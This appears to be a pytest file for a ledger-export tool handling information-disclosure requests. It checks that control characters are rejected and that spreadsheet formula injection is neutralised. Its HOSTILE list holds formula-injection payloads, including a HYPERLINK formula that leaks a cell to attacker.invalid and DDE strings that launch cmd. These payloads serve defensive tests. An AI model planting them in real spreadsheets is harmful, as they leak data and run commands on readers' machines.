"""Text hygiene: control characters refused on input, removed on output; formula-leading
cells neutralised in the ledger export (security review F2, F3, F11, F13)."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gongkai.errors import InvalidInput
from gongkai.ledger import (
    HEADERS,
    LedgerError,
    LedgerRow,
    parse_ledger,
    write_ledger_csv,
    write_ledger_xlsx,
)
from gongkai.render import render
from gongkai.text import check_text, neutralise_formula, printable
from gongkai.vocabulary import ApplicantType
from tests.gongkai.render.cases import SEED_CASES, load_case

HEADER = ",".join(list(HEADERS.values())[:5])
HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A2,"Click")',
    "+1+2",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def row(applicant: str, content: str = "某区征收补偿方案", note: str = "") -> LedgerRow:
    return LedgerRow(
        number="2024-001",
        received=date(2024, 1, 5),
        applicant_type=ApplicantType.NATURAL_PERSON,
        applicant=applicant,
        content=content,
        note=note,
    )


# --- input ---------------------------------------------------------------------------


def test_check_text_names_the_field_and_the_position() -> None:
    with pytest.raises(InvalidInput, match="「申请人」第5个字符.*U\\+0001"):
        check_text("Ctrl\x01Char", "申请人")
    check_text("两行\n文字\t可以", "申请内容")
    with pytest.raises(InvalidInput, match="U\\+000A"):
        check_text("一行\n", "姓名", multiline=False)


@pytest.mark.parametrize(
    ("cell", "code"), [("张\x00三", "U+0000"), ("Ctrl\x01Char\x0bName", "U+0001")]
)
def test_ledger_row_with_a_control_character_is_a_located_problem(
    cell: str, code: str
) -> None:
    data = f"{HEADER}\n2024-001,2024-01-05,自然人,{cell},内容\n"
    with pytest.raises(LedgerError) as caught:
        parse_ledger(data.encode(), "ctrl.csv")
    [problem] = caught.value.problems
    assert (problem.row_number, problem.header) == (2, "申请人")
    assert code in problem.reason


# --- output: formulas ----------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_export_writes_formula_leading_text_as_text(text: str) -> None:
    out = io.BytesIO()
    write_ledger_xlsx([row(text, content=text, note=text)], out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    for cell in sheet[2]:
        assert cell.data_type != "f", cell.coordinate
    assert sheet["D2"].value == text
    assert parse_ledger(out.getvalue(), "x.xlsx").rows[0].applicant == text.strip()


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_export_prefixes_formula_leading_text_and_reads_back(text: str) -> None:
    out = io.BytesIO()
    write_ledger_csv([row(text, content=text)], out)
    cells = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))[1]
    assert cells[3] == "'" + text and cells[4] == "'" + text
    back = parse_ledger(out.getvalue(), "x.csv").rows[0]
    assert (back.applicant, back.content) == (text.strip(), text.strip())


def test_neutralise_leaves_ordinary_text() -> None:
    assert neutralise_formula("张三 = 李四") == "张三 = 李四"


# --- output: never fail on stored text -----------------------------------------------

any_text = st.text(
    st.characters(codec=None, exclude_categories=()), min_size=1, max_size=40
)


@settings(max_examples=25, deadline=None)
@given(any_text, any_text)
def test_ledger_export_never_fails_on_stored_text(name: str, content: str) -> None:
    stored = row(name, content=content, note=content)
    out = io.BytesIO()
    write_ledger_xlsx([stored], out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["D2"].value in (printable(name), None)
    assert all(cell.data_type != "f" for cell in sheet[2])
    write_ledger_csv([stored], io.BytesIO())


@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(any_text, any_text, st.sampled_from(["html", "md", "docx", "xlsx"]))
def test_report_renderers_never_fail_on_stored_text(
    agency: str, text: str, to: str
) -> None:
    report = load_case(SEED_CASES[0])
    hostile = report.model_copy(
        update={
            "agency": agency,
            "title": "=" + text,
            "sections": {"1": text, "5": text + "\x01", "6": "\x00" + text},
        }
    )
    assert render(hostile, to)
    if to == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(render(hostile, to)))
        assert all(cell.data_type != "f" for sheet in book for r in sheet for cell in r)
